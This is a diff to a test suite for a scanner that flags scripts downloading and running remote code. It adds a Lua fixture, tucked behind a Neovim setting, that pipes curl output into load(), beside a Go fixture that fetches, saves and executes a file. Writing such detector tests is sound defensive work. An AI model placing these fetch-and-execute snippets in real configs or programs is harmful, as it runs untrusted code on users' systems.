@@ -36,6 +36,11 @@ describe("a download that a script runs is reported:", () => {
       [`3  ${runs}`],
     ],
     [
+      "Lua, by a command",
+      `vim.opt.number = true\nlocal p = io.popen("curl -s ${url}")\nlocal c = p:read("*a")\nload(c)()`,
+      [`4  ${runs}`],
+    ],
+    [
       "Go, over a file",
       `package main\nfunc main() {\n  r, _ := http.Get("${url}")\n  b, _ := io.ReadAll(r.Body)\n  os.WriteFile("/tmp/a", b, 0755)\n  exec.Command("/tmp/a").Start()\n}`,
       [`6  ${runs}`],
